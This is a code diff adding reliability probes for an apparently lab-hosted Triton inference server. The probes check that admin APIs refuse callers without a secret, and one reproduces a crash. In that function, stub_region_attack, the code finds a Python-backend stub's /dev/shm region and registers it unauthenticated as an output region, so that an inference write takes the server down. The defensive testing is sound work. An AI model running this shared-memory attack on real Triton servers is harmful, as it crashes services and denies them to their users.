@@ -6,6 +6,10 @@
 - crafted_canvases: small PNG files that declare a canvas of tens of megapixels, sent together;
   how high does the service's memory go, and does it come back down?
 - repository_api: Triton's model-repository API without the node's secret (refused?) and with it.
+- admin_apis: every Triton API that changes the server's state or memory (model repository,
+  system and CUDA shared memory, logging, trace), over HTTP and gRPC, without the secret, with a
+  wrong one and with it; then the shared-memory attack that crashed tritonserver (a stub's own
+  /dev/shm region registered as an output region), and whether the server still serves.
 
 Each returns one row (a dict) for docs/reliability.md; `ok` says whether it met its bound.
 """
@@ -17,6 +21,7 @@ import io
 import select
 import socket
 import time
+from pathlib import Path
 from urllib.parse import urlparse
 
 import requests
@@ -202,3 +207,184 @@ def repository_api(triton_url: str, header: str, key: str) -> list[dict]:
             }
         )
     return rows
+
+
+def _stub_regions(server_pid: int) -> list[str]:
+    """The /dev/shm objects that tritonserver's Python-backend stubs map (their IPC regions)."""
+    from reliability.procs import children
+
+    found = []
+    for pid in children(server_pid):
+        try:
+            maps = Path(f"/proc/{pid}/maps").read_text()
+        except OSError:
+            continue
+        found += [ln.split()[-1] for ln in maps.splitlines() if " /dev/shm/" in ln]
+    return sorted(set(found))
+
+
+def _http_call(url: str, method: str, path: str, body, headers: dict) -> tuple[int, str]:
+    resp = requests.request(method, f"{url}{path}", json=body, headers=headers, timeout=30)
+    return resp.status_code, resp.text[:120].replace("\n", " ")
+
+
+def _grpc_call(grpc_url: str, name: str, headers: dict) -> tuple[str, str]:
+    """One gRPC admin call by name; ('OK', ...) or (Triton's status code, its message)."""
+    import tritonclient.grpc as grpcclient
+    from tritonclient.utils import InferenceServerException
+
+    client = grpcclient.InferenceServerClient(grpc_url)
+    calls = {
+        "system shared memory status": lambda h: client.get_system_shared_memory_status(headers=h),
+        "system shared memory register": lambda h: client.register_system_shared_memory(
+            "probe", "/lab_probe_missing", 64, headers=h
+        ),
+        "system shared memory unregister all": lambda h: client.unregister_system_shared_memory(
+            headers=h
+        ),
+        "CUDA shared memory status": lambda h: client.get_cuda_shared_memory_status(headers=h),
+        "CUDA shared memory unregister all": lambda h: client.unregister_cuda_shared_memory(
+            headers=h
+        ),
+        "log settings": lambda h: client.get_log_settings(headers=h),
+        "log settings update": lambda h: client.update_log_settings(
+            {"log_verbose_level": 0}, headers=h
+        ),
+        "trace settings": lambda h: client.get_trace_settings(headers=h),
+        "repository index": lambda h: client.get_model_repository_index(headers=h),
+    }
+    try:
+        calls[name](headers)
+        return "OK", ""
+    except InferenceServerException as exc:
+        message = exc.message() or ""
+        # a call that reached the API and failed on its argument was not refused
+        return str(exc.status() or "error"), message[:120]
+    finally:
+        client.close()
+
+
+HTTP_ADMIN_CALLS = (  # (what, method, path, body)
+    ("system shared memory status", "GET", "/v2/systemsharedmemory/status", None),
+    (
+        "system shared memory register",
+        "POST",
+        "/v2/systemsharedmemory/region/probe/register",
+        {"key": "/lab_probe_missing", "offset": 0, "byte_size": 64},
+    ),
+    ("system shared memory unregister all", "POST", "/v2/systemsharedmemory/unregister", {}),
+    ("CUDA shared memory status", "GET", "/v2/cudasharedmemory/status", None),
+    ("CUDA shared memory unregister all", "POST", "/v2/cudasharedmemory/unregister", {}),
+    ("log settings", "GET", "/v2/logging", None),
+    ("log settings update", "POST", "/v2/logging", {"log_verbose_level": 0}),
+    ("trace settings", "GET", "/v2/trace/setting", None),
+    ("trace settings update", "POST", "/v2/trace/setting", {"trace_level": ["OFF"]}),
+    ("repository index", "POST", "/v2/repository/index", {}),
+    ("model unload", "POST", "/v2/repository/models/no_such_model/unload", {}),
+)
+GRPC_ADMIN_CALLS = (
+    "system shared memory status",
+    "system shared memory register",
+    "system shared memory unregister all",
+    "CUDA shared memory status",
+    "CUDA shared memory unregister all",
+    "log settings",
+    "log settings update",
+    "trace settings",
+    "repository index",
+)
+
+
+def _refused_http(status: int, text: str) -> bool:
+    return status == 403 and "restricted" in text
+
+
+def _refused_grpc(status: str, text: str) -> bool:
+    return status == "StatusCode.UNAVAILABLE" and "restricted" in text
+
+
+def admin_apis(http_url: str, grpc_url: str, headers: dict) -> list[dict]:
+    """Every state-changing Triton API over HTTP and gRPC, one row each: refused without the
+    secret and with a wrong one, answered with `headers` (labenv.admin_headers(): one dict for both
+    protocols). A call that reached the API and failed on its argument counts as answered."""
+    wrong = {k: "guess" for k in headers} or {"lab-admin-key": "guess"}
+    attempts = (("no secret", {}), ("wrong secret", wrong), ("the secret", headers))
+    rows = []
+    for protocol, calls in (("HTTP", HTTP_ADMIN_CALLS), ("gRPC", GRPC_ADMIN_CALLS)):
+        for call in calls:
+            what = call[0] if protocol == "HTTP" else call
+            seen, refused = [], []
+            for _, sent in attempts:
+                if protocol == "HTTP":
+                    status, text = _http_call(http_url, *call[1:], sent)
+                    refused.append(_refused_http(status, text))
+                else:
+                    status, text = _grpc_call(grpc_url, what, sent)
+                    refused.append(_refused_grpc(status, text))
+                seen.append((str(status).replace("StatusCode.", ""), text))
+            rows.append(
+                {
+                    "check": f"Triton {protocol} {what}: no secret / wrong secret / the secret",
+                    "status": " / ".join(s for s, _ in seen),
+                    "detail": seen[0][1]
+                    if refused[0]
+                    else f"answered without the secret: {seen[0][1][:80]}",
+                    "bound": "refused / refused / answered",
+                    "ok": refused == [True, True, False],
+                }
+            )
+    return rows
+
+
+def stub_region_attack(http_url: str, server_pid: int, model: str = "food_classifier_onnx") -> dict:
+    """The crash of the issue: register a Python-backend stub's own IPC region as a system
+    shared-memory region (no secret) and have Triton write an inference output into it."""
+    regions = _stub_regions(server_pid)
+    if not regions:
+        return {
+            "check": "Triton: a stub's /dev/shm region as an output region, no secret",
+            "status": None,
+            "detail": "no stub region found",
+            "bound": "refused, server serves",
+            "ok": False,
+        }
+    key = "/" + Path(regions[0]).name
+    register = requests.post(
+        f"{http_url}/v2/systemsharedmemory/region/evil/register",
+        json={"key": key, "offset": 0, "byte_size": 44},
+        timeout=30,
+    )
+    body = {
+        "inputs": [
+            {
+                "name": "input",
+                "shape": [1, 3, 224, 224],
+                "datatype": "FP32",
+                "data": [0.0] * (3 * 224 * 224),
+            }
+        ],
+        "outputs": [
+            {
+                "name": "output",
+                "parameters": {"shared_memory_region": "evil", "shared_memory_byte_size": 44},
+            }
+        ],
+    }
+    try:
+        infer = requests.post(f"{http_url}/v2/models/{model}/infer", json=body, timeout=60)
+        answer = f"inference HTTP {infer.status_code}"
+    except requests.RequestException as exc:
+        answer = f"inference: no answer ({type(exc).__name__})"
+    time.sleep(1.0)  # a crash takes the server down within this
+    try:
+        serving = requests.get(f"{http_url}/v2/models/{model}/ready", timeout=10).status_code == 200
+    except requests.RequestException:
+        serving = False
+    return {
+        "check": "Triton: a stub's /dev/shm region as an output region, no secret",
+        "status": register.status_code,
+        "detail": f"register: {register.text[:80]}; {answer}; serving after: "
+        + ("yes" if serving else "NO"),
+        "bound": "refused, server serves",
+        "ok": _refused_http(register.status_code, register.text) and serving,
+    }
